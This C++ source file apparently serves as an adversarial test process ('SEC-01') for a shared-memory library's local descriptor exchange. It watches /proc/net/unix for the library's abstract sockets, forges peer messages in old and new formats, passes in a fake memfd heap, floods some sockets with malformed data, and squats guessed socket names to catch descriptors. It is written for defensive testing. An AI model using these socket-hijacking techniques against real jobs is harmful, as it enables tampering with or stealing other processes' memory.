// SEC-01 attacker: a local process that attacks the node-local descriptor exchange of every
// xshmem job it can see. It watches /proc/net/unix for the abstract sockets of the exchange
// ("@xshmem-...") and, on each new one, tries one case:
//   claim    claims to be a peer PE (old and new message formats) and hands over its own memfd,
//            named "xshmem-sec01-attacker" and filled with 0xa7, as that peer's heap
//   nofd     the same claims without a descriptor
//   silent   connects and says nothing, holding the connections open
//   garbage  random bytes, several descriptors, a descriptor of the wrong kind, half a message
//   squat    binds the names it can guess (the other PEs' and later rounds') before the PEs do,
//            and takes any descriptor a PE hands to it
// Runs until SIGTERM, then writes what it did to --stats FILE ("key value" lines).
// Usage: sec01_attacker --case CASE --stats FILE [--nobody]
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <deque>
#include <fstream>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <vector>

namespace {

volatile sig_atomic_t g_stop = 0, g_hot = 0;
void on_term(int) {
  g_stop = 1;
}
// SIGUSR1: a job is starting; watch without pausing for a while (a real attacker would spin
// all the time; this keeps the CPU free between jobs).
void on_hot(int) {
  g_hot = 1;
}

struct Stats {
  long names_seen = 0, connects = 0, messages = 0, fds_sent = 0, squat_binds = 0, squat_tries = 0,
       fds_stolen = 0;
} g_st;

std::mt19937_64 g_rng(std::random_device{}());

int g_memfd = -1;

std::deque<int> g_held;        // connections kept open (silent, half messages)
std::vector<int> g_squat;      // listening sockets on squatted names
std::set<std::string> g_mine;  // names this attacker bound: not a job's, never attacked

void hold(int fd) {
  g_held.push_back(fd);
  while (g_held.size() > 200) {
    close(g_held.front());
    g_held.pop_front();
  }
}

socklen_t make_addr(sockaddr_un &a, const std::string &name) {
  memset(&a, 0, sizeof(a));
  a.sun_family = AF_UNIX;
  size_t n = std::min(name.size(), sizeof(a.sun_path) - 1);
  memcpy(a.sun_path + 1, name.data(), n);
  return static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + n);
}

// Never blocks: a listener whose backlog is full is skipped.
int connect_to(const std::string &name) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (s < 0) return -1;
  sockaddr_un a;
  socklen_t len = make_addr(a, name);
  if (connect(s, reinterpret_cast<sockaddr *>(&a), len) != 0) {
    close(s);
    return -1;
  }
  ++g_st.connects;
  return s;
}

bool send_with(int s, const void *buf, size_t len, const std::vector<int> &fds) {
  iovec iov{const_cast<void *>(buf), len};
  msghdr m{};
  m.msg_iov = &iov;
  m.msg_iovlen = 1;
  alignas(cmsghdr) char cbuf[CMSG_SPACE(8 * sizeof(int))];
  if (!fds.empty()) {
    memset(cbuf, 0, sizeof(cbuf));
    m.msg_control = cbuf;
    m.msg_controllen = CMSG_SPACE(fds.size() * sizeof(int));
    cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(fds.size() * sizeof(int));
    memcpy(CMSG_DATA(c), fds.data(), fds.size() * sizeof(int));
  }
  bool ok = sendmsg(s, &m, MSG_NOSIGNAL | MSG_DONTWAIT) == static_cast<ssize_t>(len);
  if (ok) {
    ++g_st.messages;
    g_st.fds_sent += static_cast<long>(fds.size());
  }
  return ok;
}

// What a real listener said first (the fixed protocol sends a challenge: {magic, version,
// listener pe, reserved, round, ...}).
struct Heard {
  bool any = false;
  int32_t listener_pe = -1;
  uint64_t round = 1;
};
Heard read_first(int s) {
  Heard h;
  uint8_t buf[256];
  ssize_t n = recv(s, buf, sizeof(buf), MSG_DONTWAIT);
  if (n >= 24) {
    h.any = true;
    memcpy(&h.listener_pe, buf + 8, 4);
    memcpy(&h.round, buf + 16, 8);
  }
  return h;
}

// Old names: "xshmem-<token>-<pe>-<round>". New ones carry no structure.
bool parse_old(const std::string &name, std::string &token, int &pe, uint64_t &round) {
  size_t a = name.find('-'), b = name.find('-', a + 1), c = name.find('-', b + 1);
  if (a == std::string::npos || b == std::string::npos || c == std::string::npos) return false;
  token = name.substr(a + 1, b - a - 1);
  pe = atoi(name.c_str() + b + 1);
  round = strtoull(name.c_str() + c + 1, nullptr, 10);
  return true;
}

struct Conn {
  int s;
  std::string name;
  int variant;
};

// Sends attack `variant` of case `kase` on connection `c`.
void attack(const std::string &kase, const Conn &c, int pipefd[2]) {
  std::string token;
  int pe = 0;
  uint64_t round = 1;
  parse_old(c.name, token, pe, round);
  const Heard h = read_first(c.s);
  const bool with_fd = kase == "claim";
  std::vector<int> fds;
  if (with_fd) fds.push_back(g_memfd);
  if (kase == "claim" || kase == "nofd") {
    if (c.variant < 2) {
      // Old format {pe, has_fd, round}: claim to be another PE of the job.
      const int claim = c.variant == 0 ? (pe == 0 ? 1 : 0) : (pe == 1 ? 2 : 1);
      struct {
        int32_t pe, has_fd;
        uint64_t round;
      } m{claim, with_fd ? 1 : c.variant, h.any ? h.round : round};
      send_with(c.s, &m, sizeof(m), fds);
    } else {
      // New format, forged: right magic, version, round and pe numbers, a guessed proof.
      const int to = h.any ? h.listener_pe : pe;
      struct {
        uint32_t magic, version;
        int32_t from, to;
        uint64_t round;
        uint32_t has_fd, reserved;
        uint8_t mac[32];
      } m{0x48485358, 1, to == 0 ? 1 : 0, to, h.any ? h.round : round, 1, 0, {}};
      for (auto &b : m.mac) b = static_cast<uint8_t>(g_rng());
      if (c.variant == 3) m.from = to;  // claims to be the listener itself
      send_with(c.s, &m, sizeof(m), fds);
    }
  } else if (kase == "garbage") {
    uint8_t buf[512];
    const size_t len = 1 + g_rng() % sizeof(buf);
    for (size_t i = 0; i < len; ++i) buf[i] = static_cast<uint8_t>(g_rng());
    if (c.variant == 0) {
      send_with(c.s, buf, len, {});
    } else if (c.variant == 1) {
      send_with(c.s, buf, 64, {g_memfd, g_memfd, pipefd[0]});  // several descriptors
    } else if (c.variant == 2) {
      send_with(c.s, buf, 16, {pipefd[1]});  // one, of the wrong kind
    } else {
      uint32_t half[3] = {0x48485358, 1, 0};
      send_with(c.s, half, sizeof(half), {});  // half a message, then silence
    }
  }
  // silent: nothing at all
  hold(c.s);
}

// Connects to every new name at once, gives the listeners a moment to speak first, then
// attacks each connection.
void attack_all(const std::string &kase, const std::vector<std::string> &names) {
  std::vector<Conn> conns;
  const int per_name = kase == "silent" ? 3 : 4;
  for (const std::string &n : names)
    for (int v = 0; v < per_name; ++v) {
      int s = connect_to(n);
      if (s >= 0) conns.push_back({s, n, v});
    }
  if (conns.empty()) return;
  if (kase != "silent") {
    std::vector<pollfd> p;
    for (const Conn &c : conns) p.push_back({c.s, POLLIN, 0});
    poll(p.data(), p.size(), 3);
  }
  int pipefd[2] = {-1, -1};
  if (pipe2(pipefd, O_CLOEXEC) != 0) return;
  for (const Conn &c : conns) attack(kase, c, pipefd);
  close(pipefd[0]);
  close(pipefd[1]);
}

void squat(const std::string &name) {
  std::string token;
  int pe = 0;
  uint64_t round = 1;
  std::vector<std::string> guesses;
  if (parse_old(name, token, pe, round)) {
    // Once per job: the other attacker's squats carry the same token.
    static std::set<std::string> tokens;
    if (!tokens.insert(token).second) return;
    for (int q = 0; q < 8; ++q)
      for (uint64_t r = round; r < round + 3; ++r)
        guesses.push_back("xshmem-" + token + "-" + std::to_string(q) + "-" + std::to_string(r));
  } else {
    guesses.push_back(name);  // nothing to derive: try the very name
  }
  for (const std::string &g : guesses) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (s < 0) return;
    sockaddr_un a;
    socklen_t len = make_addr(a, g);
    ++g_st.squat_tries;
    if (g_mine.count(g) == 0 && bind(s, reinterpret_cast<sockaddr *>(&a), len) == 0 &&
        listen(s, 64) == 0) {
      ++g_st.squat_binds;
      g_mine.insert(g);
      g_squat.push_back(s);
    } else {
      close(s);
    }
  }
  while (g_squat.size() > 400) {
    close(g_squat.front());
    g_squat.erase(g_squat.begin());
  }
}

// Serve the squatted names: take whatever a PE sends, descriptors included.
void serve_squats() {
  for (int l : g_squat) {
    for (;;) {
      int c = accept4(l, nullptr, nullptr, SOCK_CLOEXEC | SOCK_NONBLOCK);
      if (c < 0) break;
      usleep(2000);
      uint8_t buf[256];
      iovec iov{buf, sizeof(buf)};
      msghdr m{};
      m.msg_iov = &iov;
      m.msg_iovlen = 1;
      alignas(cmsghdr) char cbuf[CMSG_SPACE(8 * sizeof(int))];
      m.msg_control = cbuf;
      m.msg_controllen = sizeof(cbuf);
      if (recvmsg(c, &m, MSG_DONTWAIT | MSG_CMSG_CLOEXEC) > 0)
        for (cmsghdr *h = CMSG_FIRSTHDR(&m); h; h = CMSG_NXTHDR(&m, h))
          if (h->cmsg_level == SOL_SOCKET && h->cmsg_type == SCM_RIGHTS) {
            size_t k = (h->cmsg_len - CMSG_LEN(0)) / sizeof(int);
            for (size_t i = 0; i < k; ++i) {
              int fd;
              memcpy(&fd, CMSG_DATA(h) + i * sizeof(int), sizeof(int));
              close(fd);
              ++g_st.fds_stolen;
            }
          }
      hold(c);
    }
  }
}

// Listening abstract sockets of the exchange now in /proc/net/unix.
std::vector<std::string> scan() {
  std::vector<std::string> out;
  std::ifstream f("/proc/net/unix");
  std::string line;
  std::getline(f, line);  // header
  while (std::getline(f, line)) {
    size_t at = line.find(" @xshmem-");
    if (at == std::string::npos) continue;
    std::istringstream is(line);
    std::string num, ref, proto, flags;
    is >> num >> ref >> proto >> flags;
    if (flags != "00010000") continue;  // listening sockets only
    out.push_back(line.substr(at + 2));
  }
  return out;
}

}  // namespace

int main(int argc, char **argv) {
  std::string kase, stats;
  bool nobody = false;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    if (a == "--case" && i + 1 < argc)
      kase = argv[++i];
    else if (a == "--stats" && i + 1 < argc)
      stats = argv[++i];
    else if (a == "--nobody")
      nobody = true;
  }
  if (kase.empty() || stats.empty()) {
    fprintf(stderr, "usage: %s --case claim|nofd|silent|garbage|squat --stats FILE [--nobody]\n",
            argv[0]);
    return 2;
  }
  if (nobody && (setgroups(0, nullptr) != 0 || setgid(65534) != 0 || setuid(65534) != 0)) {
    fprintf(stderr, "sec01 attacker: cannot become nobody: %s\n", strerror(errno));
    return 2;
  }
  struct sigaction sa {};
  sa.sa_handler = on_term;  // no SA_RESTART: a blocked call returns and the loop ends
  sigaction(SIGTERM, &sa, nullptr);
  struct sigaction hot {};
  hot.sa_handler = on_hot;
  hot.sa_flags = SA_RESTART;
  sigaction(SIGUSR1, &hot, nullptr);
  signal(SIGPIPE, SIG_IGN);
  g_memfd = memfd_create("xshmem-sec01-attacker", MFD_CLOEXEC);
  if (g_memfd < 0 || ftruncate(g_memfd, 64 << 20) != 0) {
    fprintf(stderr, "sec01 attacker: memfd: %s\n", strerror(errno));
    return 2;
  }
  void *p = mmap(nullptr, 1 << 20, PROT_READ | PROT_WRITE, MAP_SHARED, g_memfd, 0);
  if (p != MAP_FAILED) {
    memset(p, 0xa7, 1 << 20);
    munmap(p, 1 << 20);
  }
  std::set<std::string> seen;
  timespec hot_until{};
  while (!g_stop) {
    timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (g_hot) {
      g_hot = 0;
      hot_until = now;
      hot_until.tv_sec += 1;
    }
    const bool hot_now = now.tv_sec < hot_until.tv_sec ||
                         (now.tv_sec == hot_until.tv_sec && now.tv_nsec < hot_until.tv_nsec);
    std::vector<std::string> fresh;
    for (const std::string &name : scan())
      if (g_mine.count(name) == 0 && seen.insert(name).second) fresh.push_back(name);
    g_st.names_seen += static_cast<long>(fresh.size());
    if (kase == "squat") {
      for (const std::string &name : fresh) squat(name);
    } else if (!fresh.empty()) {
      attack_all(kase, fresh);
    }
    if (seen.size() > 100000) seen.clear();
    serve_squats();
    usleep(hot_now ? 30 : 300);
  }
  FILE *f = fopen(stats.c_str(), "w");
  if (f) {
    fprintf(f,
            "names_seen %ld\nconnects %ld\nmessages %ld\nfds_sent %ld\nsquat_tries %ld\n"
            "squat_binds %ld\nfds_stolen %ld\n",
            g_st.names_seen, g_st.connects, g_st.messages, g_st.fds_sent, g_st.squat_tries,
            g_st.squat_binds, g_st.fds_stolen);
    fclose(f);
  }
  return 0;
}
